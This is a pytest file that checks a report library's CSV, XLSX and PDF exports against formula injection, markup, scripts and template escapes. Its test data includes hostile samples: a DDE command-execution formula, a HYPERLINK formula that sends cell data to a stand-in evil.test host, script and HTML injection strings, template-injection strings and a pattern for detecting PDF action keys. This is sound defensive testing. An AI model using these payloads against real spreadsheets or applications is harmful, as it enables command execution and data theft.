"""Text from documents is never a formula, never markup, never a link to the outside."""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from decimal import Decimal

import pytest

from reports import Report, builtin, compose, render
from reports.csv import guarded
from reports.value import Column, Table, Value
from reports.wording import clean
from tests.reports.reading import csv_rows, pdf, pdf_text, workbook
from tests.reports.samples import invoice_report

FORMULAS = (
    "=1+1", "+1-2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", " =1+1",
    '=HYPERLINK("http://evil.test?"&A1)', "-2-3", "+1-800-555-1234", "＝1+1",
)  # fmt: skip
HONEST = ("-12.5", "+49 30 1234", "-1,234.50", "+7", "1 234", "a=b", "x@y.test", "–")


def _report(*texts: str) -> Report:
    rows = tuple((Value("text", text),) for text in texts)
    return Report("T", 0, sections=(Table("Rows", (Column("A", "text"),), rows, "main"),))


def test_csv_holds_no_live_formula_and_leaves_honest_text_alone() -> None:
    for text in FORMULAS:
        assert guarded(text) == "'" + clean(text)
    for text in HONEST:
        assert guarded(text) == text


def test_negative_amounts_stay_numbers_in_csv_and_xlsx() -> None:
    row = (Value("money", Decimal("-12.5"), "EUR"),)
    report = Report("T", 0, sections=(Table("Rows", (Column("A", "money"),), (row,), "main"),))
    assert csv_rows(report)[1][:2] == ["-12.50", "EUR"]
    cell = workbook(report)["Rows"]["A2"]
    assert (cell.value, cell.data_type) == (-12.5, "n")


def test_xlsx_keeps_text_as_text() -> None:
    texts = (*FORMULAS, *HONEST)
    data = render(_report(*texts), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in parts
    assert b"TargetMode" not in parts
    sheet = workbook(_report(*texts))["Rows"]
    for row, text in enumerate(texts, 2):
        cell = sheet.cell(row, 1)
        assert (cell.value, cell.data_type) == (clean(text), "s")
        assert bool(cell.quotePrefix) == clean(text).startswith(("=", "+", "-", "@", "\t", "\n"))


def test_headings_titles_and_sheet_names_are_guarded_too() -> None:
    evil = "=cmd()[]:*?/\\' <script>alert(1)</script>"
    table = Table(evil, (Column(evil, "money"),), (), "main")
    report = Report(evil, 0, subtitle=evil, parameters=((evil, evil),), sections=(table, table))
    book = workbook(report)
    assert len(set(book.sheetnames)) == 3
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "d", "n"}
    assert all(not cell.startswith("=") for line in csv_rows(report) for cell in line)


def test_markup_in_documents_is_printed_as_it_is() -> None:
    text = "<b>bold</b> <a href='http://evil.test'>x</a> <img src='http://evil.test'/> &amp; <para>"
    with pdf(_report(text)) as document:
        assert re.sub(r"\s+", "", text) in pdf_text(document)
    raw = render(_report(text), "pdf")
    assert _actions(raw) == []


def test_a_pdf_has_no_scripts_and_no_way_out() -> None:
    assert _actions(render(invoice_report(), "pdf")) == []


def _actions(data: bytes) -> list[bytes]:
    """Names of PDF keys that run or fetch something, in plain and in packed objects."""
    unpacked = [data]
    for match in re.finditer(rb"stream\r?\n", data):
        try:
            unpacked.append(zlib.decompressobj().decompress(data[match.end() :]))
        except zlib.error:
            continue
    keys = rb"/(?:URI|JavaScript|JS|Launch|GoToR|SubmitForm|ImportData|OpenAction|EmbeddedFile)\b"
    outside = [part for part in unpacked if not part.startswith((b"q ", b"1 0 0 1", b"\x00\x01"))]
    return [found for part in outside for found in re.findall(keys, part)]


@pytest.mark.parametrize("format", ["pdf", "xlsx", "csv"])
def test_odd_characters_do_not_stop_a_report(format: str) -> None:
    odd = (
        "\x00a\x1bb\x7f", "\ud800", "👩\u200d👩\u200d👧 🎉", "שלום עולם", "العربية", "東京",
        "\u202eevil\u202c", "e\u0301" * 50, "W" * 5000, "a\nb\r\nc", "\ufeff\uffff", " ",
        "_x0041_", "]]>", "\u0f3a",
    )  # fmt: skip
    assert render(_report(*odd), format)


def test_control_and_bidirectional_marks_are_removed() -> None:
    sheet = workbook(_report("\x00a\x1bb\u202ec"))["Rows"]
    assert sheet["A2"].value == "abc"


def test_a_template_text_cannot_reach_outside_the_facts() -> None:
    facts: dict[str, object] = {"rows": []}
    report = compose(builtin("table"), facts, params={"title": "${params.__class__} ${rows.x}"})
    assert report.title == "${params.__class__} ${rows.x}"
    report = compose(builtin("table"), facts, title="${params.__class__.x}${facts.rows.append}")
    assert report.title == "––"
